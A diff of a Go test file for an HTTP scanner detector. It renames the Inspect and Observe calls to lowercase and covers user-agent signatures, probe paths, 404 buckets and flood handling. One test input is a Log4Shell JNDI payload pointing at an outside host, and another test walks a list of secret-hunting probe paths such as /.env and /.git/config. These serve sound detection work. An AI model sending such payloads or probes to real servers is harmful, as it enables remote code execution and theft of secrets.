@@ -69,12 +69,12 @@ func TestScannerSignaturesAreRecognised(t *testing.T) {
 			if tc.header != "" {
 				r.Header.Set(tc.header, "1")
 			}
-			res := d.Inspect(r, src, 0)
+			res := d.inspect(r, src, 0)
 			if !d.Scanner(res) || res.Family != tc.family {
 				t.Errorf("round %d, UA %q header %q: score %d family %q signals %v; want a %s scanner",
 					round, tc.ua, tc.header, res.Score, res.Family, res.Signals.Names(), tc.family)
 			}
-			if res := d.Inspect(browserRequest("/"), src, 0); res.Signals.Has(SignalUserAgent) || res.Family != "" {
+			if res := d.inspect(browserRequest("/"), src, 0); res.Signals.Has(SignalUserAgent) || res.Family != "" {
 				t.Errorf("round %d, a browser after %q: signals %v family %q", round, tc.ua, res.Signals.Names(), res.Family)
 			}
 		}
@@ -91,7 +91,7 @@ func TestTokensMatchOnlyWholeWords(t *testing.T) {
 	} {
 		r := browserRequest("/")
 		r.Header.Set("User-Agent", ua)
-		if got := d.Inspect(r, src, 0).Signals.Has(SignalUserAgent); got != want {
+		if got := d.inspect(r, src, 0).Signals.Has(SignalUserAgent); got != want {
 			t.Errorf("%q matched = %v, want %v", ua, got, want)
 		}
 	}
@@ -118,7 +118,7 @@ func TestProbePathsAreRecognised(t *testing.T) {
 		{"/?x=${jndi:ldap://198.51.100.9/a}", SignalCVEProbe},
 	}
 	for _, tc := range cases {
-		res := d.Inspect(browserRequest(tc.target), netip.MustParseAddr("203.0.113.50"), 0)
+		res := d.inspect(browserRequest(tc.target), netip.MustParseAddr("203.0.113.50"), 0)
 		if !res.Signals.Has(tc.signal) {
 			t.Errorf("%s: signals %v, want %s", tc.target, res.Signals.Names(), tc.signal)
 		}
@@ -139,7 +139,7 @@ func TestCommonClientsAreNotScanners(t *testing.T) {
 	for name, change := range cases {
 		r := browserRequest("/api/v1/orders")
 		change(r)
-		res := d.Inspect(r, netip.MustParseAddr("192.0.2.77"), 0)
+		res := d.inspect(r, netip.MustParseAddr("192.0.2.77"), 0)
 		if d.Scanner(res) {
 			t.Errorf("%s: score %d (%v) reaches the threshold", name, res.Score, res.Signals.Names())
 		}
@@ -156,12 +156,12 @@ func TestBehaviourCatchesAScannerWithABrowserUserAgent(t *testing.T) {
 	paths := []string{"/", "/admin", "/.env", "/backup", "/.git/config", "/old", "/phpinfo.php", "/test", "/server-status", "/db"}
 	caught := 0
 	for i, p := range paths {
-		res := d.Inspect(browserRequest(p), src, 0)
+		res := d.inspect(browserRequest(p), src, 0)
 		if d.Scanner(res) {
 			caught = i + 1
 			break
 		}
-		d.Observe(src, p, 404)
+		d.observe(src, p, 404)
 		c.Add(50 * time.Millisecond)
 	}
 	// /.env, /.git/config, /phpinfo.php: the probe bucket (3 a minute) runs
@@ -175,14 +175,14 @@ func TestBehaviourCatchesAScannerWithABrowserUserAgent(t *testing.T) {
 	// then: 14 leaves room for that.)
 	other := netip.MustParseAddr("198.51.100.8")
 	for i := range 14 {
-		d.Observe(other, fmt.Sprintf("/page-%d", i), 404)
+		d.observe(other, fmt.Sprintf("/page-%d", i), 404)
 	}
-	if res := d.Inspect(browserRequest("/page-x"), other, 0); !res.Signals.Has(SignalNotFound) {
+	if res := d.inspect(browserRequest("/page-x"), other, 0); !res.Signals.Has(SignalNotFound) {
 		t.Fatalf("14 404s in a row: %v", res.Signals.Names())
 	}
 	// Buckets leak: the same source is clean again after a while.
 	c.Add(time.Minute)
-	if res := d.Inspect(browserRequest("/page-y"), other, 0); res.Signals.Has(SignalNotFound) {
+	if res := d.inspect(browserRequest("/page-y"), other, 0); res.Signals.Has(SignalNotFound) {
 		t.Fatalf("the 404 bucket did not leak: %v", res.Signals.Names())
 	}
 }
@@ -195,7 +195,7 @@ func TestBrowsingAndAPITrafficStayClean(t *testing.T) {
 	browser := netip.MustParseAddr("192.0.2.10")
 	for range 20 {
 		for _, p := range []string{"/", "/static/app.css", "/static/app.js", "/img/logo.png", "/favicon.ico"} {
-			res := d.Inspect(browserRequest(p), browser, 0)
+			res := d.inspect(browserRequest(p), browser, 0)
 			if d.Scanner(res) {
 				t.Fatalf("browser flagged on %s: %v", p, res.Signals.Names())
 			}
@@ -203,7 +203,7 @@ func TestBrowsingAndAPITrafficStayClean(t *testing.T) {
 			if p == "/favicon.ico" {
 				status = 404
 			}
-			d.Observe(browser, p, status)
+			d.observe(browser, p, status)
 		}
 		c.Add(2 * time.Second)
 	}
@@ -211,10 +211,10 @@ func TestBrowsingAndAPITrafficStayClean(t *testing.T) {
 	for i := range 500 {
 		r := browserRequest(fmt.Sprintf("/api/v1/orders/%d", i%7))
 		r.Header.Set("User-Agent", "curl/8.5.0")
-		if res := d.Inspect(r, api, 0); d.Scanner(res) {
+		if res := d.inspect(r, api, 0); d.Scanner(res) {
 			t.Fatalf("API client flagged at request %d: %v", i, res.Signals.Names())
 		}
-		d.Observe(api, r.URL.Path, 200)
+		d.observe(api, r.URL.Path, 200)
 		c.Add(20 * time.Millisecond)
 	}
 }
@@ -222,9 +222,9 @@ func TestBrowsingAndAPITrafficStayClean(t *testing.T) {
 func TestIPv6SourcesAreTrackedByTheirPrefix(t *testing.T) {
 	d := newDetector(t, nil)
 	for i := range 14 {
-		d.Observe(netip.MustParseAddr(fmt.Sprintf("2001:db8:1:2::%x", i+1)), fmt.Sprintf("/page-%d", i), 404)
+		d.observe(netip.MustParseAddr(fmt.Sprintf("2001:db8:1:2::%x", i+1)), fmt.Sprintf("/page-%d", i), 404)
 	}
-	if res := d.Inspect(browserRequest("/y"), netip.MustParseAddr("2001:db8:1:2:ffff::1"), 0); !res.Signals.Has(SignalNotFound) {
+	if res := d.inspect(browserRequest("/y"), netip.MustParseAddr("2001:db8:1:2:ffff::1"), 0); !res.Signals.Has(SignalNotFound) {
 		t.Fatalf("404s spread over one /64 were not added up: %v", res.Signals.Names())
 	}
 	if n := d.Tracker().Len(); n != 1 {
@@ -251,9 +251,9 @@ func TestFloodKeepsMemoryBoundedAndStillCatchesTheScanner(t *testing.T) {
 	caught := false
 	for i := range 2_000_000 {
 		ip := netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)})
-		d.Inspect(r, ip, 0)
+		d.inspect(r, ip, 0)
 		if i%50_000 == 0 { // the scanner's probe walk, spread thin through the flood
-			if res := d.Inspect(browserRequest(probes[(i/50_000)%len(probes)]), scanner, 0); d.Scanner(res) {
+			if res := d.inspect(browserRequest(probes[(i/50_000)%len(probes)]), scanner, 0); d.Scanner(res) {
 				caught = true
 			}
 		}
@@ -287,7 +287,7 @@ func BenchmarkInspectBrowserNoQuery(b *testing.B) {
 	r.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")
 	b.ReportAllocs()
 	for b.Loop() {
-		if res := d.Inspect(r, src, 0); res.Score != 0 {
+		if res := d.inspect(r, src, 0); res.Score != 0 {
 			b.Fatal(res.Signals.Names())
 		}
 	}
@@ -301,7 +301,7 @@ func BenchmarkInspectBrowser(b *testing.B) {
 	r.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")
 	b.ReportAllocs()
 	for b.Loop() {
-		if res := d.Inspect(r, src, 0); res.Score != 0 {
+		if res := d.inspect(r, src, 0); res.Score != 0 {
 			b.Fatal(res.Signals.Names())
 		}
 	}
